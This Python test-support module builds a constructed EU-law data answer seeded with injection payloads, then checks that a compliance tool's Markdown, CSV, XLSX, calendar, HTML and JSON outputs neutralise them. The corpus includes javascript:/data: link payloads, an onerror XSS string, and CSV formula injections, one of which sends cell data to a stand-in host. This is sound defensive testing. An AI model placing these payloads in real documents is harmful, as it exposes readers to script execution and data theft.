"""Hostile evidence for the injection tests: the attack corpus, a CELLAR-shaped NIM answer that
carries it, the checks each output format must pass, and the ledger the summary prints.

Everything here is CONSTRUCTED: the NIM answer follows the SPARQL JSON results format of the
query in compliance/sources/eurlex_parse.py (the vars of tests/fixtures/eurlex/nim_32011L0036_
constructed.json); the attack strings are textbook payloads (CommonMark link reference
definitions, GFM table breakouts, javascript:/data:/vbscript: URLs, OWASP CSV injection).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

MEASURE = "thb-directive-2011-36"
CELEX = "32011L0036"

# --- the corpus ------------------------------------------------------------------------------------

MARKDOWN = [
    "pwn\r\n[pwn]:\tjavascript:alert(1%29",
    "cell | extra | cells |",
    "end of row\n| injected | row | here |\n",
    "a\r| carriage | return |",
    "[click](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">html link</a>',
    "<img src=x onerror=alert(1)>",
    "&#106;avascript&#58;alert(1)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "`code | with pipe`",
    "\\| escaped pipe \\",
    "line\u2028separator\u2029paragraph",
    "***bold*** __u__ ~~strike~~ $math$",
    "# heading\n## another",
    "\x1b[31mred\x1b[0m \x07bell \x00nul",
    "\u202eevil\u202c bidi override",
]
URLS = [
    "https://ok.example/a\r\n[pwn]:\tjavascript:alert(1%29",
    "https://ok.example/a\n| x | y |",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "https://ok.example/a)](javascript:alert(1))",
    "https://ok.example/a> [x](javascript:alert(1))",
    'https://ok.example/"><script>alert(1)</script>',
    "https://ok.example/a|b|c",
    "https://ok.example/a\\>",
    "https://ok.example/\u2028x",
    "https://ok.example/ok?q=1&r=<2>",
]
FORMULAS = [
    "x;=1+cmd|' /C calc'!A0",
    "x,=1+cmd|' /C calc'!A0",
    "x; =1+1",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a\n=1+1",
    "x;@SUM(1)",
    "\uff1d1+1",
]
CORPUS = {"markdown": MARKDOWN, "url": URLS, "csv-formula": FORMULAS}
# A URL that is allowed to become a link, so the tests see links are still made.
GOOD_URL = "https://www.retsinformation.dk/eli/lta/2013/1234"

ISO3 = {"AT": "AUT", "BE": "BEL", "BG": "BGR", "HR": "HRV", "CY": "CYP", "CZ": "CZE", "DE": "DEU", "DK": "DNK",
        "EE": "EST", "EL": "GRC", "ES": "ESP", "FI": "FIN", "FR": "FRA", "HU": "HUN", "IE": "IRL", "IT": "ITA",
        "LT": "LTU", "LU": "LUX", "LV": "LVA", "MT": "MLT", "NL": "NLD", "PL": "POL", "PT": "PRT", "RO": "ROU",
        "SE": "SWE", "SI": "SVN", "SK": "SVK"}
# Member States bound by Directive 2011/36/EU that carry the corpus (DK is not bound, IE opted in).
TARGETS = ["AT", "BE", "DE", "FI", "FR", "IT", "NL", "PL", "SE"]


@dataclass
class Row:
    member_state: str
    title: str
    reference: str | None
    link: str


def corpus_rows() -> list[Row]:
    """Every attack string in a title, a reference and a link, spread over TARGETS."""
    texts = MARKDOWN + FORMULAS
    rows = []
    for i in range(max(len(texts), len(URLS))):
        rows.append(Row(TARGETS[i % len(TARGETS)], texts[i % len(texts)],
                        texts[(i + 7) % len(texts)] if i % 3 else None,  # no reference: the label is the title
                        URLS[i % len(URLS)]))
    rows.append(Row("SE", "A benign act", "SFS 2013:1234", GOOD_URL))
    # The benign rows first, so that they keep their NIM ids (from their position) in the hostile
    # answer: a second answer that lists none of the first one's findings is `suspect` (store/plausibility.py).
    return benign_rows() + rows


def benign_rows() -> list[Row]:
    """What a first, healthy refresh finds (three Member States: a plausible CELLAR answer)."""
    return [Row(ms, f"Benign law of {ms}", f"REF-{ms}", f"https://example.org/{ms.lower()}")
            for ms in ("EE", "LT", "LV")]


def _literal(value: str) -> dict[str, str]:
    return {"type": "literal", "value": value}


def nim_answer(rows: list[Row]) -> bytes:
    """A SPARQL JSON answer of the NIM query listing `rows` (one NIM each)."""
    bindings = []
    for i, row in enumerate(rows):
        binding = {
            "nim": {"type": "uri", "value": f"http://publications.europa.eu/resource/cellar/hostile-{i:04d}"},
            "nimCelex": _literal(f"7{CELEX[1:]}{ISO3[row.member_state]}_2013{i:05d}"),
            "country": {"type": "uri",
                        "value": f"http://publications.europa.eu/resource/authority/country/{ISO3[row.member_state]}"},
            "title": {"type": "literal", "value": row.title, "xml:lang": "en"},
            "notified": {"type": "literal", "datatype": "http://www.w3.org/2001/XMLSchema#date",
                         "value": "2013-03-20"},
            "link": {"type": "uri", "value": row.link},
        }
        if row.reference is not None:
            binding["refCommission"] = _literal(row.reference)
        bindings.append(binding)
    head = {"link": [], "vars": ["nim", "nimCelex", "country", "title", "notified", "ojName", "ojNumber", "ojPage",
                                 "ojDate", "typeAct", "refCommission", "refMemberState", "link", "eli"]}
    return json.dumps({"head": head, "results": {"distinct": False, "ordered": True, "bindings": bindings}}).encode()


# --- the ledger -------------------------------------------------------------------------------------


@dataclass
class Ledger:
    """Attacks tried (an attack string of a class meeting one output of one command) and held."""

    tried: Counter = field(default_factory=Counter)
    held: Counter = field(default_factory=Counter)

    def record(self, kind: str, count: int, problems: list[str]) -> list[str]:
        self.tried[kind] += count
        if not problems:
            self.held[kind] += count
        return problems


LEDGER = Ledger()


def record(kind: str, where: str, count: int, problems: list[str]) -> list[str]:
    """Count `count` attacks of `kind` on `where`; the problems, each prefixed with `where`."""
    return LEDGER.record(kind, count, [f"{where}: {p}" for p in problems])


# --- the checks -------------------------------------------------------------------------------------

_SAFE_LINK = re.compile(r"https?://[^\x00-\x20\x7f-\x9f\u2028\u2029<>\"'`\\|]*\Z", re.IGNORECASE)
_BAD_SCHEME = re.compile(r"^\s*(javascript|data|vbscript|file):", re.IGNORECASE)
# The one data: URL an output may carry: a PNG drawn by the tool (the digest's charts, inline when
# the digest is a file), as the src of an <img>, where a browser shows it and runs nothing.
_OWN_PNG = re.compile(r"data:image/png;base64,[A-Za-z0-9+/]+=*\Z")


def _permissive_markdown():  # noqa: ANN202
    """CommonMark + GFM tables, with markdown-it's own link filter switched off: a less careful
    renderer than markdown-it-py, so the output itself must carry no dangerous link."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    md.validateLink = lambda _url: True
    return md


def markdown_problems(text: str, *, rows: int | None = None, must_show: tuple[str, ...] = ()) -> list[str]:
    """No link or image but a safe http(s) one, no raw HTML, exactly `rows` table body rows."""
    md = _permissive_markdown()
    tokens = md.parse(text)
    problems: list[str] = []
    body_rows = 0
    in_body = False
    for token in tokens:
        if token.type == "tbody_open":
            in_body = True
        elif token.type == "tbody_close":
            in_body = False
        elif token.type == "tr_open" and in_body:
            body_rows += 1
        elif token.type in ("html_block",):
            problems.append(f"raw HTML block {token.content[:60]!r}")
        for child in token.children or []:
            if child.type == "html_inline":
                problems.append(f"raw inline HTML {child.content[:60]!r}")
            for attr in ("href", "src"):
                value = child.attrGet(attr)
                if value is not None and not _SAFE_LINK.match(str(value)):
                    problems.append(f"{attr}={value!r}")
    html = md.render(text)
    if re.search(r"""(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):""", html, re.IGNORECASE):
        problems.append("a javascript:/data:/vbscript: link in the rendered HTML")
    if re.search(r"^\s{0,3}\[[^\]]*\]:", text, re.MULTILINE):
        problems.append("a line that is a link reference definition")
    if rows is not None and body_rows != rows:
        problems.append(f"{body_rows} table rows, expected {rows}")
    problems += [f"{s!r} not shown" for s in must_show if s not in html]
    return problems


def csv_problems(text: str) -> list[str]:
    """Every field quoted; no field, and no piece of a field after , ; tab or a line break, starts
    like a formula (what Excel in a ';' locale, or an import with another separator, would split)."""
    problems: list[str] = []
    rows = list(csv.reader(io.StringIO(text)))
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    if again.getvalue() != text:
        problems.append("not every field is quoted")
    for row in rows:
        for cell in row:
            if re.fullmatch(r"-\d+(\.\d+)?", cell):
                continue
            if cell[:1] in ("\t", "\r", "\n"):
                problems.append(f"cell starts with a control: {cell[:40]!r}")
            for piece in re.split(r"[,;\t\r\n]", cell):
                if piece.lstrip(" ")[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
                    problems.append(f"formula start in {cell[:60]!r}")
                    break
    return problems


def xlsx_problems(path) -> list[str]:  # noqa: ANN001
    from openpyxl import load_workbook

    problems: list[str] = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{ws.title}!{cell.coordinate} is a formula")
                if isinstance(cell.value, str):
                    if cell.data_type != "s":
                        problems.append(f"{ws.title}!{cell.coordinate} text that is not a text cell")
                    if cell.value.lstrip(" ")[:1] in ("=", "+", "@", "\t", "\r", "\n") or (
                            cell.value.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", cell.value)):
                        problems.append(f"{ws.title}!{cell.coordinate} starts like a formula: {cell.value[:40]!r}")
                if cell.hyperlink is not None and not _SAFE_LINK.match(str(cell.hyperlink.target or "")):
                    problems.append(f"{ws.title}!{cell.coordinate} links {cell.hyperlink.target!r}")
    return problems


_DESCRIPTION_LINES = ("Measure: ", "Member State: ", "Obligation: ", "Status as of ", "Rule: ", "Reason: ", "Note: ",
                      "Waiver: ", "Evidence:", "- ", "compliance ")


def ics_problems(raw: bytes, *, events: int) -> list[str]:
    """Parses; `events` events; no bare CR or LF; URL properties safe; no control characters."""
    from icalendar import Calendar

    problems: list[str] = []
    if b"\n" in raw.replace(b"\r\n", b"") or b"\r" in raw.replace(b"\r\n", b""):
        problems.append("a bare CR or LF")
    if re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", raw):
        problems.append("a control character")
    cal = Calendar.from_ical(raw)
    found = [c for c in cal.walk() if c.name == "VEVENT"]
    if len(found) != events:
        problems.append(f"{len(found)} events, expected {events}")
    for event in found:
        url = event.get("url")
        if url is not None and not _SAFE_LINK.match(str(url)):
            problems.append(f"URL {str(url)!r}")
        for line in str(event.get("description", "")).split("\n"):
            if not line.startswith(_DESCRIPTION_LINES):
                problems.append(f"a description line of its own: {line[:60]!r}")
    return problems


def html_problems(text: str) -> list[str]:
    from bs4 import BeautifulSoup

    problems: list[str] = []
    soup = BeautifulSoup(text, "html.parser")
    if soup.find_all("script"):
        problems.append("a <script> element")
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name.lower().startswith("on"):
                problems.append(f"<{tag.name} {name}=…>")
            own_png = tag.name == "img" and name.lower() == "src" and _OWN_PNG.match(str(value))
            if name.lower() in ("href", "src", "xlink:href") and _BAD_SCHEME.match(str(value)) and not own_png:
                problems.append(f"<{tag.name} {name}={value[:80]!r}>")
    return problems


def text_problems(text: str) -> list[str]:
    """Terminal text: no escape sequence, bell, NUL, CR, bidi override or line separator."""
    bad = re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text)
    return [f"control characters {sorted(set(bad))!r}"] if bad else []


def json_problems(text: str, expected: list[str]) -> list[str]:
    """JSON parses and keeps every scraped value as the parser stored it (exactly, or with its
    runs of whitespace collapsed, as eurlex_parse.normalise_text does for titles)."""
    blob = json.dumps(json.loads(text), ensure_ascii=False)

    def kept(s: str) -> bool:
        return any(json.dumps(v, ensure_ascii=False)[1:-1] in blob for v in (s, " ".join(s.split())))

    return [f"{s!r} not kept" for s in expected if not kept(s)]


def body_rows(report_json: Any, *, annex: bool = False) -> int:
    """Table body rows of the Markdown report of `check --format json` data: one per assessment,
    one per status in the summary, and (bundle) one per evidence annex item."""
    reports = report_json if isinstance(report_json, list) else [report_json]
    n = 0
    for r in reports:
        n += len(r["assessments"]) + sum(1 for v in r["summary"].values() if v)
        if annex:
            n += len(r.get("evidence_annex", []))
    return n
